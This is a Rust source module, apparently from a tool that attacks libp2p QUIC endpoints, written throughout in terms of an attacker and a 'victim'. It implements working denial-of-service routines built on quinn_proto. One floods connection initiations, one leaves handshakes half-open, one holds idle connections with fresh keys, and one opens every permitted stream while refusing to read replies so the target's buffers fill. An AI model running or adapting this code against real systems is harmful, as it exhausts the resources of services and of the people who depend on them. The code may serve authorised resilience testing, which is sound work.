//! QUIC, packet by packet (RFC 9000): connections that are begun without end, handshakes that stay half, and connections
//! that are held.
//!
//! The protocol's own machine makes the packets, without a socket: what it would answer is what an attacker leaves out.

use std::{
    io,
    net::SocketAddr,
    sync::Arc,
    time::{Duration, Instant},
};

use libp2p::identity::Keypair;
use quinn_proto::{
    ClientConfig, Connection, ConnectionHandle, DatagramEvent, Dir, Endpoint, EndpointConfig,
    Event, StreamId, TransportConfig, WriteError, crypto::rustls::QuicClientConfig,
};
use tokio::{
    net::UdpSocket,
    time::{sleep, timeout},
};

use super::{HELLO, questions};
use crate::{Target, tally::Tally};

/// Connections of one machine, after which another one begins: it remembers each of them.
const CONNECTIONS_MAX: usize = 256;

/// How long an attacker waits for the victim's part of a handshake.
const PATIENCE: Duration = Duration::from_secs(10);

/// The bits of a packet's first byte that tell what it is, and what they are where the sender is asked to prove its
/// address (RFC 9000, section 17.2.5).
const PACKET_KIND: u8 = 0xf0;
const RETRY: u8 = 0xf0;

/// Answers that are taken of one stream before the victim has to wait until they are read.
const ANSWER_BYTES_MAX: u32 = 1_024;

/// Largest packet that is read.
const PACKET_BYTES_MAX: usize = 1_500;

/// Begins connections from one address, as fast as packets can be made, and listens to no answer.
pub(super) async fn initials(target: &Target, tally: &Arc<Tally>) -> io::Result<()> {
    let (mut caller, socket) = (Caller::new(target)?, socket(target, 0).await?);
    for _ in 0..CONNECTIONS_MAX {
        tally.tried();
        let (_, mut connection) = caller.begin()?;
        tally.sent(send(&mut connection, &socket).await?);
        tokio::task::yield_now().await;
    }
    Ok(())
}

/// Begins a connection, takes the victim's part of the handshake, and says nothing more.
pub(super) async fn half(target: &Target, number: usize, tally: &Arc<Tally>) -> io::Result<()> {
    let (mut caller, socket) = (Caller::new(target)?, socket(target, number).await?);
    tally.tried();
    let (_, mut connection) = caller.begin()?;
    let mut bytes = [0; PACKET_BYTES_MAX];
    loop {
        tally.sent(send(&mut connection, &socket).await?);
        match timeout(PATIENCE, socket.recv(&mut bytes)).await {
            // It can prove where it is.
            Ok(Ok(count)) if bytes[0] & PACKET_KIND == RETRY => {
                caller.hear(&bytes[..count], &mut connection);
            }
            Ok(Ok(_)) => break,
            _ => {
                tally.refused();
                return Ok(());
            }
        }
    }
    tally.connected();
    // The victim repeats itself until it has had enough.
    while timeout(PATIENCE, socket.recv(&mut bytes)).await.is_ok_and(|read| read.is_ok()) {}
    tally.ended();
    Ok(())
}

/// Becomes a connected stranger with a new key, opens nothing, and holds on until the victim lets go.
pub(super) async fn join(target: &Target, number: usize, tally: &Arc<Tally>) -> io::Result<()> {
    hold(Caller::new(target)?, target, number, tally, |_| ()).await
}

/// Asks on as many streams as there may be, without end, and reads no answer.
pub(super) async fn unread(target: &Target, number: usize, tally: &Arc<Tally>) -> io::Result<()> {
    let mut caller = Caller::new(target)?;
    let mut windows = TransportConfig::default();
    windows.stream_receive_window(ANSWER_BYTES_MAX.into());
    caller.settings.transport_config(Arc::new(windows));
    let asked = [HELLO, &questions()].concat();
    let mut streams = Vec::new();
    let ask = |connection: &mut Connection| {
        while let Some(stream) = connection.streams().open(Dir::Bi) {
            tally.opened();
            streams.push((stream, 0));
        }
        streams.retain_mut(|(stream, sent): &mut (StreamId, usize)| {
            loop {
                match connection.send_stream(*stream).write(&asked[*sent..]) {
                    Ok(count) if *sent + count == asked.len() => *sent = HELLO.len(),
                    Ok(count) => *sent += count,
                    Err(WriteError::Blocked) => break true,
                    Err(_) => {
                        tally.ended();
                        break false;
                    }
                }
            }
        });
    };
    hold(caller, target, number, tally, ask).await
}

/// Connects, does something whenever there is a turn, and holds on until the victim lets go.
async fn hold(
    mut caller: Caller,
    target: &Target,
    number: usize,
    tally: &Tally,
    mut turn: impl FnMut(&mut Connection),
) -> io::Result<()> {
    let socket = socket(target, number).await?;
    tally.tried();
    let (handle, mut connection) = caller.begin()?;
    let mut bytes = [0; PACKET_BYTES_MAX];
    let mut is_connected = false;
    loop {
        if is_connected {
            turn(&mut connection);
        }
        tally.sent(send(&mut connection, &socket).await?);
        while let Some(event) = connection.poll() {
            match event {
                Event::Connected => {
                    is_connected = true;
                    tally.connected();
                }
                Event::ConnectionLost { .. } => {
                    if is_connected {
                        tally.ended();
                    } else {
                        tally.refused();
                    }
                    return Ok(());
                }
                _ => {}
            }
        }
        // What the connection tells its endpoint is about further addresses of its own, which it does without.
        while let Some(event) = connection.poll_endpoint_events() {
            if let Some(event) = caller.endpoint.handle_event(handle, event) {
                connection.handle_event(event);
            }
        }
        let now = Instant::now();
        let patience = connection.poll_timeout().map_or(PATIENCE, |due| due - now);
        match timeout(patience, socket.recv(&mut bytes)).await {
            Ok(Ok(count)) => caller.hear(&bytes[..count], &mut connection),
            Ok(Err(_)) => sleep(Duration::from_millis(50)).await,
            Err(_) => connection.handle_timeout(Instant::now()),
        }
    }
}

/// An end of connections, with a key of its own.
struct Caller {
    endpoint: Endpoint,
    settings: ClientConfig,
    target: SocketAddr,
}

impl Caller {
    fn new(target: &Target) -> io::Result<Self> {
        let keypair = Keypair::generate_ed25519();
        let tls = libp2p_tls::make_client_config(&keypair, None).map_err(io::Error::other)?;
        let tls = QuicClientConfig::try_from(tls).map_err(io::Error::other)?;
        let endpoint = Endpoint::new(Arc::new(EndpointConfig::default()), None, false, None);
        let settings = ClientConfig::new(Arc::new(tls));
        Ok(Self { endpoint, settings, target: target.address.into() })
    }

    fn begin(&mut self) -> io::Result<(ConnectionHandle, Connection)> {
        let begun = self.endpoint.connect(Instant::now(), self.settings.clone(), self.target, "l");
        begun.map_err(io::Error::other)
    }

    /// Gives a packet of the victim to the connection.
    fn hear(&mut self, packet: &[u8], connection: &mut Connection) {
        let mut reply = Vec::new();
        let (now, bytes) = (Instant::now(), packet.into());
        let event = self.endpoint.handle(now, self.target, None, None, bytes, &mut reply);
        if let Some(DatagramEvent::ConnectionEvent(_, event)) = event {
            connection.handle_event(event);
        }
    }
}

/// Opens a socket at one of the attacker's addresses.
async fn socket(target: &Target, number: usize) -> io::Result<UdpSocket> {
    let socket = UdpSocket::bind((target.source(number), 0)).await?;
    socket.connect(target.address).await?;
    Ok(socket)
}

/// Sends whatever a connection has to send; returns how many bytes that were.
async fn send(connection: &mut Connection, socket: &UdpSocket) -> io::Result<usize> {
    let (mut packet, mut sent) = (Vec::new(), 0);
    while let Some(transmit) = connection.poll_transmit(Instant::now(), 1, &mut packet) {
        // A victim whose port is shut says so; it is tried again all the same.
        sent += socket.send(&packet[..transmit.size]).await.unwrap_or(0);
        packet.clear();
    }
    Ok(sent)
}
